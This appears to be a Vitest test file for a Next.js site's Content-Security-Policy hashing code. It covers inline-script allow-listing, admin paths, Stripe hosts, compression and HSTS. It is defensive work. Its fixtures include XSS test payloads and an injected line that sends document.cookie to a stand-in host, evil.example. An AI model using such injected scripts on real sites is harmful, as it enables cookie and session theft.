import { createHash } from 'node:crypto'
import { createRequire } from 'node:module'
import { PassThrough } from 'node:stream'
import { createServer, type RequestListener, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
// @ts-expect-error -- Next's bundled copy of `compression` has no types
import compression from 'next/dist/compiled/compression'
import {
  addScriptPolicy,
  appScript,
  gatewayScriptHosts,
  inlineScriptHashes,
  mayBeAPage,
  mayBeAnAdminPage,
  scriptPolicy,
  strictTransportSecurity,
} from './page-csp.mjs'

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const BOOT = '(self.__next_f=self.__next_f||[]).push([0])'
const PUSH = 'self.__next_f.push([1,"a\\u003c/b"])'
const PAGE = `<!DOCTYPE html><html><head><script src="/_next/static/chunks/main.js" async=""></script>
<script type="application/ld+json">{"@type":"Article"}</script></head><body>
<script>${BOOT}</script><script>${PUSH}</script><script type="module">${BOOT}</script></body></html>`

describe('inlineScriptHashes', () => {
  it('hashes each executable inline script once, not files or data blocks', () => {
    expect(inlineScriptHashes(PAGE)).toEqual([sha(BOOT), sha(PUSH)])
    expect(scriptPolicy([sha(BOOT)])).toBe(`script-src 'self' ${sha(BOOT)}`)
    expect(scriptPolicy([])).toBe("script-src 'self'")
  })
})

describe('the allowed set: scripts of the shapes the framework writes, nothing else', () => {
  const TURBOPACK =
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[494553]});'
  it.each([BOOT, PUSH, 'self.__next_f.push([2,null])', TURBOPACK])('hashes %s', (body) => {
    expect(appScript(body)).toBe(true)
  })
  it.each([
    'alert(1)',
    'window.__injected = true',
    'self.__next_f.push([1,"a"]);alert(1)',
    'self.__next_f.push([1,"a"]),alert(1)',
    'self.__next_f.push(alert(1))',
    '$RC=function(){alert(1)};$RC("B:0","S:0")',
    '$RC("B:0","S:0");alert(1)',
    '',
  ])('leaves out %j', (body) => {
    expect(appScript(body)).toBe(false)
  })

  it('a page with an injected inline script: its policy does not list the injected one', () => {
    const injected = 'fetch("https://evil.example/?c="+document.cookie)'
    const page = PAGE.replace(
      '<body>',
      `<body><div class="rich-text"><script>${injected}</script></div>`,
    )
    expect(inlineScriptHashes(page)).toEqual([sha(BOOT), sha(PUSH)])
    expect(inlineScriptHashes(page)).not.toContain(sha(injected))
  })

  it("hashes React's streaming scripts, as the React DOM that Next ships writes them", async () => {
    const require = createRequire(import.meta.url)
    const React = require('next/dist/compiled/react') as typeof import('react')
    const { renderToPipeableStream } = require('next/dist/compiled/react-dom/server.node')
    let resolve = (_: string) => {}
    const later = new Promise<string>((done) => (resolve = done))
    const Late = () => React.createElement('p', null, React.use(later))
    const tree = React.createElement(
      'html',
      null,
      React.createElement(
        'body',
        null,
        React.createElement(React.Suspense, { fallback: 'wait' }, React.createElement(Late)),
      ),
    )
    const out = new PassThrough()
    let html = ''
    out.on('data', (chunk) => (html += chunk))
    const stream = renderToPipeableStream(tree, {
      onShellReady() {
        stream.pipe(out)
        setTimeout(() => resolve('done'), 10)
      },
    })
    await new Promise((done) => out.on('end', done))
    const bodies = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!)
    expect(bodies.some((b) => b.includes('$RC('))).toBe(true)
    for (const body of bodies) expect(appScript(body), body.slice(0, 80)).toBe(true)
  })
})

describe('mayBeAPage', () => {
  it.each([
    ['GET', '/', true],
    ['GET', '/newEgyptNews?page=2', true],
    ['GET', '/_next/static/chunks/a.js', false],
    ['GET', '/api/content/news', false],
    ['GET', '/admin/login', false],
    ['GET', '/images/hero.jpg', false],
    ['GET', '/favicon.ico', false],
    // Answered by the not-found page, which gets the policy of every page.
    ['GET', '/wp-login.php', true],
    ['GET', '/index.html', true],
    ['POST', '/', false],
    ['HEAD', '/', false],
  ])('%s %s: %s', (method, url, expected) => {
    expect(mayBeAPage({ method, url })).toBe(expected)
  })
})

describe('mayBeAnAdminPage: the back office gets the same script policy (decision 0079)', () => {
  it.each([
    ['GET', '/admin', true],
    ['GET', '/admin/login', true],
    ['GET', '/admin/collections/donations/3?tab=x', true],
    ['POST', '/admin/collections/donations', false],
    ['GET', '/administration', false],
    ['GET', '/api/users/me', false],
    ['GET', '/', false],
  ])('%s %s: %s', (method, url, expected) => {
    expect(mayBeAnAdminPage({ method, url })).toBe(expected)
  })
})

let server: Server | undefined
afterEach(() => new Promise<void>((done) => (server ? server.close(() => done()) : done())))

async function serve(handler: RequestListener, gateway?: string) {
  server = createServer((req, res) => {
    addScriptPolicy(res, gatewayScriptHosts(gateway))
    handler(req, res)
  })
  await new Promise<void>((done) => server!.listen(0, '127.0.0.1', done))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
}

describe('gateway script hosts (decision 0041)', () => {
  it('allows Stripe.js in Stripe mode only; the sandbox policy is unchanged', () => {
    expect(gatewayScriptHosts('stripe')).toEqual(['https://js.stripe.com'])
    expect(gatewayScriptHosts('sandbox')).toEqual([])
    expect(gatewayScriptHosts(undefined)).toEqual([])
    expect(scriptPolicy([sha(BOOT)], gatewayScriptHosts('stripe'))).toBe(
      `script-src 'self' https://js.stripe.com ${sha(BOOT)}`,
    )
  })

  it.each([
    ['stripe', `script-src 'self' https://js.stripe.com ${sha(BOOT)} ${sha(PUSH)}`],
    ['sandbox', `script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`],
  ])('a page served in %s mode gets its policy', async (gateway, policy) => {
    const url = await serve((_, res) => {
      res.setHeader('Content-Security-Policy', "frame-ancestors 'none'")
      res.writeHead(200, { 'Content-Type': 'text/html' })
      res.end(PAGE)
    }, gateway)
    const header = (await fetch(url)).headers.get('content-security-policy')
    expect(header).toBe(`frame-ancestors 'none'; ${policy}`)
    // No frame or connect restriction is added: Stripe's frames and API stay reachable.
    expect(header).not.toMatch(/frame-src|connect-src|default-src/)
  })
})

describe('addScriptPolicy', () => {
  it('adds the hashes of a page streamed in pieces to its base policy', async () => {
    const url = await serve((_, res) => {
      res.setHeader('Content-Security-Policy', "frame-ancestors 'none'")
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'x-nextjs-cache': 'HIT' })
      res.write(PAGE.slice(0, 100))
      res.end(PAGE.slice(100))
    })
    const res = await fetch(url)
    expect(await res.text()).toBe(PAGE)
    expect(res.headers.get('x-nextjs-cache')).toBe('HIT')
    expect(res.headers.get('content-security-policy')).toBe(
      `frame-ancestors 'none'; script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`,
    )
  })

  it('reads a compressed page and sends it as compressed', async () => {
    const gz = gzipSync(PAGE)
    const url = await serve((_, res) => {
      res.writeHead(200, {
        'content-type': 'text/html',
        'content-encoding': 'gzip',
        'content-security-policy': "object-src 'none'",
      })
      res.end(gz)
    })
    const res = await fetch(url)
    expect(res.headers.get('content-encoding')).toBe('gzip')
    expect(await res.text()).toBe(PAGE) // fetch decompresses: the bytes were the gzip of the page
    expect(res.headers.get('content-security-policy')).toBe(
      `object-src 'none'; script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`,
    )
  })

  it('works a page out once per ETag: the same ETag reuses its policy, another is hashed', async () => {
    const OTHER = PAGE.replace(PUSH, 'self.__next_f.push([1,"other"])')
    const answers = [
      { etag: '"page-a"', body: PAGE },
      // Next's ETag is a digest of the bytes, so one ETag never has two bodies; this one does,
      // to show the policy came from the memo and not from hashing this body again.
      { etag: '"page-a"', body: OTHER },
      { etag: '"page-b"', body: OTHER },
    ]
    const url = await serve((_, res) => {
      const { etag, body } = answers.shift()!
      res.setHeader('ETag', etag)
      res.writeHead(200, { 'content-type': 'text/html' })
      res.end(body)
    })
    const policies = []
    for (let i = 0; i < 3; i++) {
      const res = await fetch(url)
      await res.text()
      policies.push(res.headers.get('content-security-policy'))
    }
    expect(policies).toEqual([
      `script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`,
      `script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`,
      `script-src 'self' ${sha(BOOT)} ${sha('self.__next_f.push([1,"other"])')}`,
    ])
  })

  it('leaves other answers alone, and a 304 without a policy to replace the page’s own', async () => {
    const url = await serve((req, res) => {
      res.setHeader('content-security-policy', "object-src 'none'")
      if (req.url === '/304') {
        res.writeHead(304)
        return res.end()
      }
      res.setHeader('content-type', 'application/json')
      res.end('{"a":"<script>x</script>"}')
    })
    const json = await fetch(url)
    expect(json.headers.get('content-security-policy')).toBe("object-src 'none'")
    expect(await json.text()).toBe('{"a":"<script>x</script>"}')
    const notModified = await fetch(`${url}304`)
    expect(notModified.status).toBe(304)
    expect(notModified.headers.get('content-security-policy')).toBeNull()
  })
})

describe('strictTransportSecurity', () => {
  it('is sent for an https site only', () => {
    expect(strictTransportSecurity('https://charity.example.org')).toBe(
      'max-age=31536000; includeSubDomains',
    )
    expect(strictTransportSecurity('http://localhost:3000')).toBeUndefined()
    expect(strictTransportSecurity(undefined)).toBeUndefined()
  })

  // As in Next's server: its compression wraps write/end inside the handler, after us.
  it('keeps a later wrapper (Next’s compression): React payloads end, compressed; pages too', async () => {
    const url = await serve((req, res) => {
      compression()(req as never, res as never, () => {
        const html = req.url === '/page'
        res.setHeader('content-type', html ? 'text/html' : 'text/x-component')
        res.write(html ? PAGE.slice(0, 50) : FLIGHT.slice(0, 5))
        res.end(html ? PAGE.slice(50) : FLIGHT.slice(5))
      })
    })
    const gzip = { headers: { 'accept-encoding': 'gzip' }, signal: AbortSignal.timeout(5_000) }
    const flight = await fetch(`${url}flight`, gzip)
    expect(flight.headers.get('content-encoding')).toBe('gzip')
    expect(await flight.text()).toBe(FLIGHT) // before the fix: never ended (the timeout)
    const page = await fetch(`${url}page`, gzip)
    expect(page.headers.get('content-encoding')).toBe('gzip')
    expect(await page.text()).toBe(PAGE)
    expect(page.headers.get('content-security-policy')).toBe(
      `script-src 'self' ${sha(BOOT)} ${sha(PUSH)}`,
    )
  })
})

const FLIGHT = '0:{"a":"$@1"}\n1:["$","p",null,{"children":"hello"}]\n'.repeat(40)
